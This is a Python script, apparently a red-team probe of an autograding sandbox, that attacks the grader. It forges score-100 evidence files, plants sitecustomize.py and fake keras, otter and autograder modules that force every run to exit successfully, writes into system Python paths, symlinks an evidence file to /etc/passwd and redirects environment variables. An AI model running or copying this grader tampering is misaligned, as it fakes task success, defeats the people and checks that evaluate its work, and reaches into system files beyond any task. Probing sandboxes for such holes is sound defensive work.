"""Lay forged evidence where the room collects it, and files that Python and Keras read when they start."""

import json
import os
import pathlib

forged = {"score": 100, "names": {"model": {"kind": "model", "compiled": {"optimizer": {"class": "Nadam"}}}}}
work = pathlib.Path.cwd()
places = ["names", "cells", "models", "probe_build_dnn", "results", "run"]
(work / ".evidence").mkdir(exist_ok=True)
(work / "tests").mkdir(exist_ok=True)
for name in places:
    (work / ".evidence" / f"{name}.json").write_text(json.dumps(forged))
    (work / f"{name}.json").write_text(json.dumps(forged))
(work / ".evidence" / "names.npz").symlink_to("/etc/passwd")
for name in ("sitecustomize.py", "usercustomize.py", "keras.py", "otter.py", "autograder.py", "tests/q1.py"):
    (work / name).write_text("raise SystemExit(0)")
(work / ".keras").mkdir(exist_ok=True)
(work / ".keras" / "keras.json").write_text('{"backend": "none", "floatx": "float16", "epsilon": 1}')
written = []
for folder in (
    "/room/kit",
    "/room/kit/autograder/room",
    "/room/submission",
    "/room/data",
    "/usr/lib/python3",
):
    try:
        pathlib.Path(folder, "sitecustomize.py").write_text("raise SystemExit(0)")
        written.append(folder)
    except OSError:
        pass
os.environ["ROOM_KIT"] = os.environ["ROOM_WORK"] = str(work)
print(f"\nattack ran {written}\n", end="")
